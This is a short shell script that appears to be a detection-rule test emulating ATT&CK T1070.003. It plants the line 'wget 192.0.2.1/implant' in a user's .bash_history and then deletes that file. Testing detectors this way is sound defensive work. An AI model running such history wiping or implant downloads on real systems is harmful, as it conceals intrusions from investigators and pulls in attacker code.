#!/bin/sh
# technique: T1070.003 Indicator Removal: Clear Command History
# rule: shell_history_removed
# Removes what was typed.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
printf 'wget 192.0.2.1/implant\n' > /home/worker/.bash_history
rm -f /home/worker/.bash_history
exit 0
